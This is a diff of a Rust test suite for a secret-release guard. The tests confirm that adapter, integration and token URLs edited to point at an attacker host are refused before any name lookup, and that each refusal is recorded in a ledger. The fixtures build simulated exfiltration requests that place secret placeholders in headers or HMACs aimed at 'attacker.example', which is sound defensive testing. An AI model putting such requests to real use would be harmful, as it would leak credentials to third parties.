@@ -1,23 +1,11 @@
-//! A URL that was changed makes no secret usable elsewhere: the other name is not even looked up, and one audit record is left.
+//! A URL that was changed makes no secret usable elsewhere: the other name is not even looked up, and one entry is left in the
+//! ledger.
 
-use std::{
-    sync::{Arc, Mutex},
-    time::Duration,
-};
+use std::time::Duration;
 
-use ::tracing::{
-    Event, Subscriber,
-    field::{Field, Visit},
-    subscriber::DefaultGuard,
-};
 use proto::integrations::v1::{ApiKey, Endpoint, Integration, RunAdapterRequest, api_key::Place, auth::Kind};
-use serde_json::json;
+use serde_json::{Value, json};
 use tonic::Status;
-use tracing_subscriber::{
-    Layer,
-    layer::{Context, SubscriberExt},
-    registry,
-};
 
 use super::{
     counterpart::{self, Counterpart, HOST},
@@ -27,50 +15,25 @@ use super::{
 
 const VALUE: &str = "canary-0123456789abcdef";
 
-/// Keeps the audit records of this thread, which is the only one of a test.
-#[derive(Clone, Default)]
-struct Audit(Arc<Mutex<Vec<String>>>);
-
-impl Audit {
-    fn start() -> (Self, DefaultGuard) {
-        let audit = Self::default();
-        let guard = ::tracing::subscriber::set_default(registry().with(oracle::layer()).with(audit.clone()));
-        (audit, guard)
-    }
-
-    /// The one that there is since the last time.
-    #[track_caller]
-    fn one(&self) -> String {
-        let taken = std::mem::take(&mut *self.0.lock().unwrap());
-        let [record] = &taken[..] else { panic!("not one record: {taken:?}") };
-        record.clone()
-    }
+/// What the ledger holds of a release that was refused.
+fn record(by: &str, secret: &str, destination: &str, purpose: &str) -> Value {
+    json!({
+        "kind": "refused", "by": by, "secret": format!("tenants/acme/secrets/{secret}"),
+        "destination": destination, "purpose": purpose, "reason": "SECRET_OUT_OF_SCOPE",
+    })
 }
 
-impl<S: Subscriber> Layer<S> for Audit {
-    fn on_event(&self, event: &Event<'_>, _: Context<'_, S>) {
-        if event.metadata().target() == "outgate::audit" {
-            let mut fields = Fields::default();
-            event.record(&mut fields);
-            self.0.lock().unwrap().push(fields.0.join(" "));
-        }
-    }
-}
-
-#[derive(Default)]
-struct Fields(Vec<String>);
-
-impl Visit for Fields {
-    fn record_debug(&mut self, field: &Field, value: &dyn std::fmt::Debug) {
-        self.0.push(format!("{}={value:?}", field.name()));
-    }
-}
-
-fn record(by: &str, secret: &str, destination: &str, purpose: &str) -> String {
-    format!(
-        "message=the release of a secret was refused by={by:?} secret=\"tenants/acme/secrets/{secret}\" \
-         destination={destination:?} purpose={purpose:?} reason=\"SECRET_OUT_OF_SCOPE\""
-    )
+/// The last of so many refusals, but for the call that it was of.
+async fn refusal(world: &World, count: usize) -> Value {
+    let mut refusals = world.refusals().await;
+    assert_eq!(refusals.len(), count, "{refusals:?}");
+    let mut last = refusals.pop().unwrap();
+    let of_the_chain = ["sequence", "time", "previous", "hash"];
+    let of_the_call = ["integration", "integration_etag", "adapter", "adapter_etag"];
+    last.as_object_mut()
+        .unwrap()
+        .retain(|key, _| !of_the_chain.iter().chain(&of_the_call).any(|one| one == key));
+    last
 }
 
 /// The attacker's own name, on a port that may leave.
@@ -110,17 +73,19 @@ async fn an_adapter_whose_url_was_edited_is_refused_before_the_name_is_looked_up
     world.secret("key", VALUE, &counterpart.origin()).await;
     world.create("CRM", wide(&counterpart, None)).await.unwrap();
     world.create("KEYED", wide(&counterpart, key())).await.unwrap();
-    let (audit, _guard) = Audit::start();
     let evil = attacker(&counterpart);
     let literal = format!("https://127.0.0.1:{}", counterpart.port());
     // With the secret in a header, within an HMAC, and injected by the integration; and through no integration at all.
-    for (adapter, integration, headers, elsewhere) in [
+    for (before, (adapter, integration, headers, elsewhere)) in [
         ("ADAPTER.HEADER", Some("CRM"), json!({ "X-Key": "{{secret:key}}" }), &evil),
         ("ADAPTER.DIGEST", Some("CRM"), json!({ "X-Key": "${hmac:sha256,{{secret:key}},text}" }), &evil),
         ("ADAPTER.INJECTED", Some("KEYED"), json!({}), &evil),
         ("ADAPTER.ANYWHERE", None, json!({ "X-Key": "{{secret:key}}" }), &evil),
         ("ADAPTER.LITERAL", None, json!({ "X-Key": "{{secret:key}}" }), &literal),
-    ] {
+    ]
+    .into_iter()
+    .enumerate()
+    {
         let text = |origin: &str| {
             let url = format!("{origin}/v1?q=query-canary");
             let request = json!({ "method": "GET", "url": url, "headers": headers });
@@ -135,7 +100,8 @@ async fn an_adapter_whose_url_was_edited_is_refused_before_the_name_is_looked_up
         world.register(adapter, text(elsewhere)).await;
         let status = refused::<()>(Err(ended(&world, adapter).await), "SECRET_OUT_OF_SCOPE");
         assert_eq!(metadata(&status, "secret"), "key", "{adapter}");
-        assert_eq!(audit.one(), record("integrations", "key", elsewhere, "PURPOSE_CALL"), "{adapter}");
+        let expected = record("integrations", "key", elsewhere, "PURPOSE_CALL");
+        assert_eq!(refusal(&world, before + 1).await, expected, "{adapter}");
     }
     // What was sent was looked up, and nothing else was: neither the other name, nor an address without one.
     let asked = world.names.asked();
@@ -148,14 +114,13 @@ async fn a_call_of_an_integration_to_another_origin_is_refused_before_the_name_i
     let world = World::new(&counterpart).await;
     world.secret("key", VALUE, &counterpart.origin()).await;
     world.create("CRM", wide(&counterpart, key())).await.unwrap();
-    let (audit, _guard) = Audit::start();
     let evil = attacker(&counterpart);
     refused(world.execute(get(format!("{evil}/v1?q=query-canary"))).await, "SECRET_OUT_OF_SCOPE");
-    assert_eq!(audit.one(), record("integrations", "key", &evil, "PURPOSE_CALL"));
+    assert_eq!(refusal(&world, 1).await, record("integrations", "key", &evil, "PURPOSE_CALL"));
     assert_eq!((world.names.asked(), counterpart.seen().len()), (vec![], 0));
     world.execute(get(format!("{}/v1", counterpart.origin()))).await.unwrap();
     assert_eq!(world.names.asked(), [HOST]);
-    assert!(audit.0.lock().unwrap().is_empty());
+    assert_eq!(world.refusals().await.len(), 1);
 }
 
 #[tokio::test]
@@ -167,9 +132,8 @@ async fn a_token_url_that_was_edited_is_not_looked_up() {
     grant.token_url = format!("{evil}/token?q=query-canary");
     world.crm(&counterpart, Some(Kind::ClientCredentials(grant))).await;
     world.client_secret(VALUE, &counterpart.origin(), &[]).await;
-    let (audit, _guard) = Audit::start();
     refused(world.execute(get(format!("{}/v1", counterpart.origin()))).await, "SECRET_OUT_OF_SCOPE");
-    assert_eq!(audit.one(), record("tokens", "crm-client-secret", &evil, "PURPOSE_TOKEN"));
+    assert_eq!(refusal(&world, 1).await, record("tokens", "crm-client-secret", &evil, "PURPOSE_TOKEN"));
     assert_eq!((world.names.asked(), counterpart.seen().len()), (vec![HOST.to_owned()], 0));
 }
 
@@ -183,31 +147,30 @@ async fn an_endpoint_that_was_added_is_sent_no_token() {
     grant.token_url = format!("{}/token", counterpart.origin());
     world.create("CRM", wide(&counterpart, Some(Kind::ClientCredentials(grant)))).await.unwrap();
     world.client_secret(VALUE, &counterpart.origin(), &[&counterpart.origin()]).await;
-    let refused_once = || async {
-        let (audit, _guard) = Audit::start();
+    let refused_once = async |count: usize| {
         let status =
             refused(world.execute(get(format!("{evil}/v1?q=query-canary"))).await, "SECRET_OUT_OF_SCOPE");
         assert_eq!(metadata(&status, "secret"), "crm-client-secret");
         assert_eq!(metadata(&status, "host"), "attacker.example");
-        let wanted = format!(
-            "message=the sending of a token was refused by=\"integrations\" \
-             secret=\"tenants/acme/secrets/crm-client-secret\" destination={evil:?} \
-             reason=\"SECRET_OUT_OF_SCOPE\""
-        );
-        assert_eq!(audit.one(), wanted);
+        let expected = json!({
+            "kind": "token_refused", "by": "integrations",
+            "secret": "tenants/acme/secrets/crm-client-secret", "destination": evil,
+            "reason": "SECRET_OUT_OF_SCOPE",
+        });
+        assert_eq!(refusal(&world, count).await, expected);
     };
     // Nothing was fetched for it, and no name looked up.
-    refused_once().await;
+    refused_once(1).await;
     assert_eq!((world.names.asked(), counterpart.seen().len()), (vec![], 0));
     // Nor is a token handed out for it that is kept.
     assert_eq!(world.execute(get(format!("{}/v1", counterpart.origin()))).await.unwrap().status, 200);
     let seen = counterpart.seen().len();
     assert_eq!(seen, 2);
-    refused_once().await;
+    refused_once(2).await;
     assert_eq!(counterpart.seen().len(), seen);
     // Where no origin is named for tokens, they go to the secret's own.
     world.client_secret(VALUE, &counterpart.origin(), &[]).await;
-    refused_once().await;
+    refused_once(3).await;
     assert_eq!(world.execute(get(format!("{}/v1", counterpart.origin()))).await.unwrap().status, 200);
 }
 
